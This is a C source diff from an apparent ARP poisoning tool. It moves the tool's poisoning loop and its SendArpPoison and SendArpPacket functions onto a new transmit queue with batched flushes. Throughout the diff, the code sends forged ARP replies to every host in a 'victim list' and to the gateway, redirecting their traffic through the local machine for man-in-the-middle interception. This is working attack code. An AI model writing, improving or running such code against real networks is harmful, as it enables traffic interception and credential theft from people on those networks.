@@ -8,14 +8,16 @@
 
 #include "APE.h"
 #include "ArpPoisoning.h"
-#include "LinkedListTargetSystems.h"
+#include "HostTable.h"
 #include "Logging.h"
 #include "NetworkHelperFunctions.h"
+#include "PacketCapture.h"
+#include "TransmitQueue.h"
 
 
 // Global/external variables
 extern int gDEBUGLEVEL;
-extern PSYSNODE gTargetSystemsList;
+extern PHOST_TABLE gTargetSystems;
 
 
 
@@ -33,17 +35,26 @@ DWORD ArpPoisoningLoop(PSCANPARAMS scanParamsParam)
   int numberSystems = 0;
   pcap_if_t *allDevices = NULL;
   pcap_if_t *device = NULL;
-  char tempBuffer[PCAP_ERRBUF_SIZE];
-  SYSTEMNODE systemList[MAX_SYSTEMS_COUNT];
+  char tempBuffer[CAPTURE_ERRBUF_SIZE];
+  HOST_ENTRY systemList[MAX_SYSTEMS_COUNT];
 
   ZeroMemory(&scanParams, sizeof(scanParams));
   CopyMemory(&scanParams, scanParamsParam, sizeof(scanParams));
 
   // Open interface.
   LogMsg(DBG_LOW, "ArpPoisoningLoop(): Starting");
-  if ((scanParams.InterfaceWriteHandle = pcap_open((char *)scanParams.InterfaceName, 65536, PCAP_OPENFLAG_NOCAPTURE_LOCAL | PCAP_OPENFLAG_MAX_RESPONSIVENESS | PCAP_OPENFLAG_PROMISCUOUS, PCAP_READTIMEOUT, NULL, tempBuffer)) == NULL)
+  ZeroMemory(tempBuffer, sizeof(tempBuffer));
+  if ((scanParams.InterfaceWriteHandle = CaptureOpen((char *)scanParams.InterfaceName, 65536, CAPTURE_FLAG_SEND_ONLY, PCAP_READTIMEOUT, tempBuffer)) == NULL)
   {
-    LogMsg(DBG_ERROR, "ArpPoisoningLoop(): pcap_open() failed (%s)", tempBuffer);
+    LogMsg(DBG_ERROR, "ArpPoisoningLoop(): CaptureOpen() failed (%s)", tempBuffer);
+  }
+  else if ((scanParams.TransmitQueue = TransmitQueueCreate((PCAPTURE_HANDLE)scanParams.InterfaceWriteHandle, TRANSMIT_QUEUE_MAX_FRAMES, 0)) == NULL)
+  {
+    LogMsg(DBG_ERROR, "ArpPoisoningLoop(): Unable to create the transmit queue");
+  }
+  else
+  {
+    TransmitQueueSetErrorHandler((PTRANSMIT_QUEUE)scanParams.TransmitQueue, ArpTransmitError, NULL);
   }
 
   // Send poisoned packets to all systems in the "victim list"
@@ -52,33 +63,33 @@ DWORD ArpPoisoningLoop(PSCANPARAMS scanParamsParam)
     LogMsg(DBG_LOW, "ArpPoisoningLoop(): ARP Poisoning round %d", roundCounter);
     ZeroMemory(systemList, sizeof(systemList));
 
-    if ((numberSystems = GetListCopy(gTargetSystemsList, systemList)) > 0)
+    if ((numberSystems = HostTableCopy(gTargetSystems, systemList, MAX_SYSTEMS_COUNT)) > 0)
     {
       LogMsg(DBG_LOW, "ArpPoisoningLoop(): New ARP poisoning round with %d system(s)", numberSystems);
 
       // Iterate through all systems
       for (counter = 0; counter < numberSystems && counter < MAX_SYSTEMS_COUNT; counter++)
       {
-        LogMsg(DBG_LOW, "ArpPoisoningLoop(): #%i: %s -> %02x-%02x-%02x-%02x-%02x-%02x", counter, systemList[counter].sysIpStr,
-          systemList[counter].sysMacBin[0],
-          systemList[counter].sysMacBin[1],
-          systemList[counter].sysMacBin[2],
-          systemList[counter].sysMacBin[3],
-          systemList[counter].sysMacBin[4],
-          systemList[counter].sysMacBin[5]
+        LogMsg(DBG_LOW, "ArpPoisoningLoop(): #%i: %s -> %02x-%02x-%02x-%02x-%02x-%02x", counter, systemList[counter].IpStr,
+          systemList[counter].MacBin[0],
+          systemList[counter].MacBin[1],
+          systemList[counter].MacBin[2],
+          systemList[counter].MacBin[3],
+          systemList[counter].MacBin[4],
+          systemList[counter].MacBin[5]
         );
 
         // Dont poison the GW with a new MAC.
-        if (memcmp(systemList[counter].sysIpBin, scanParams.GatewayIpBin, BIN_IP_LEN) == 0)
+        if (memcmp(systemList[counter].IpBin, scanParams.GatewayIpBin, BIN_IP_LEN) == 0)
         {
           continue;
         }
-        else if (systemList[counter].sysIpStr != NULL && 
-                 strnlen((char *)systemList[counter].sysIpStr, MAX_IP_LEN) > 0 && 
-                 systemList[counter].sysMacBin != NULL)
+        else if (systemList[counter].IpStr != NULL && 
+                 strnlen((char *)systemList[counter].IpStr, MAX_IP_LEN) > 0 && 
+                 systemList[counter].MacBin != NULL)
         {
           // Prepare the poisoning ARP Reply packet.
-          SendArpPoison(&scanParams, systemList[counter].sysMacBin, systemList[counter].sysIpBin);
+          SendArpPoison(&scanParams, systemList[counter].MacBin, systemList[counter].IpBin);
 
           /*
            * HACK : No clue how this can happen!! Sometimes ARP requests
@@ -89,13 +100,16 @@ DWORD ArpPoisoningLoop(PSCANPARAMS scanParamsParam)
           arpPacket.ReqType = ARP_REPLY;
           CopyMemory(arpPacket.EthSrcMacBin, scanParams.LocalMacBin, BIN_MAC_LEN);
           CopyMemory(arpPacket.ArpLocalMacBin, scanParams.LocalMacBin, BIN_MAC_LEN);
-          CopyMemory(arpPacket.EthDstMacBin, systemList[counter].sysMacBin, BIN_MAC_LEN);
-          CopyMemory(arpPacket.ArpDstMacBin, systemList[counter].sysMacBin, BIN_MAC_LEN);
+          CopyMemory(arpPacket.EthDstMacBin, systemList[counter].MacBin, BIN_MAC_LEN);
+          CopyMemory(arpPacket.ArpDstMacBin, systemList[counter].MacBin, BIN_MAC_LEN);
 
           CopyMemory(arpPacket.ArpLocalIpBin, scanParams.LocalIpBin, BIN_IP_LEN);
-          CopyMemory(arpPacket.ArpDstIpBin, systemList[counter].sysIpBin, BIN_IP_LEN);
+          CopyMemory(arpPacket.ArpDstIpBin, systemList[counter].IpBin, BIN_IP_LEN);
+
+          SendArpPacket(scanParams.TransmitQueue, &arpPacket);
 
-          SendArpPacket((pcap_t *)scanParams.InterfaceWriteHandle, &arpPacket);
+          // All ARP replies for this system leave in one batch
+          TransmitQueueFlush((PTRANSMIT_QUEUE)scanParams.TransmitQueue);
 
           roundCounter++;
           Sleep(SLEEP_BETWEEN_ARPS);
@@ -139,7 +153,7 @@ BOOL SendArpPoison(PSCANPARAMS scanParamsParam, unsigned char victimMacBinParam[
 
 
   if (scanParamsParam == NULL ||
-      scanParamsParam->InterfaceWriteHandle == NULL)
+      scanParamsParam->TransmitQueue == NULL)
   {
     retVal = FALSE;
     goto END;
@@ -182,7 +196,7 @@ BOOL SendArpPoison(PSCANPARAMS scanParamsParam, unsigned char victimMacBinParam[
   CopyMemory(arpPacket.ArpDstIpBin, victimIpBinParam, BIN_IP_LEN);
 
   // Send packet
-  if (SendArpPacket((pcap_t *)scanParamsParam->InterfaceWriteHandle, &arpPacket) == FALSE)
+  if (SendArpPacket(scanParamsParam->TransmitQueue, &arpPacket) == FALSE)
   {
     LogMsg(DBG_ERROR, "Unable to send ARP poisoning packet A2B: %s/%-15s <-->  %s/%-15s", victimMacStr, victimIpStr, gatewayMacStr, gatewayIpStr);
     retVal = FALSE;
@@ -209,7 +223,7 @@ BOOL SendArpPoison(PSCANPARAMS scanParamsParam, unsigned char victimMacBinParam[
   CopyMemory(arpPacket.ArpDstIpBin, scanParamsParam->GatewayIpBin, BIN_IP_LEN);
 
   // Send packet
-  if (SendArpPacket((pcap_t *)scanParamsParam->InterfaceWriteHandle, &arpPacket) == FALSE)
+  if (SendArpPacket(scanParamsParam->TransmitQueue, &arpPacket) == FALSE)
   {
     LogMsg(DBG_ERROR, "Unable to send ARP poisoning packet B2A: %s/%-15s <-->  %s/%-15s", gatewayMacStr, gatewayIpStr, victimMacStr, victimIpStr);
     retVal = FALSE;
@@ -225,7 +239,12 @@ END:
 }
 
 
-BOOL SendArpPacket(void *interfaceHandleParam, PArpPacket arpPacketParam)
+/*
+ * Queue the ARP packet. It leaves with the next
+ * TransmitQueueFlush() on the queue.
+ *
+ */
+BOOL SendArpPacket(void *transmitQueueParam, PArpPacket arpPacketParam)
 {
   BOOL retVal = FALSE;
   unsigned char arpPacket[sizeof(ETHDR) + sizeof(ARPHDR)];
@@ -253,13 +272,18 @@ BOOL SendArpPacket(void *interfaceHandleParam, PArpPacket arpPacketParam)
   CopyMemory(arpHdrPtr->spa, arpPacketParam->ArpLocalIpBin, BIN_IP_LEN);
   CopyMemory(arpHdrPtr->sha, arpPacketParam->ArpLocalMacBin, BIN_MAC_LEN);
 
-  // Send down the packet
-  int funcRetVal = 0;
-  if (interfaceHandleParam != NULL && 
-      (funcRetVal = pcap_sendpacket(interfaceHandleParam, arpPacket, sizeof(ETHDR) + sizeof(ARPHDR))) == 0)
+  // Queue the packet
+  if (transmitQueueParam != NULL &&
+      TransmitQueueAdd((PTRANSMIT_QUEUE)transmitQueueParam, arpPacket, sizeof(ETHDR) + sizeof(ARPHDR)) == TRUE)
   {
     retVal = TRUE;
   }
 
   return retVal;
 }
+
+
+void ArpTransmitError(void *contextParam, unsigned int failedFramesParam, char *errorParam)
+{
+  LogMsg(DBG_ERROR, "ArpTransmitError(): Unable to send %u ARP packet(s): %s", failedFramesParam, errorParam);
+}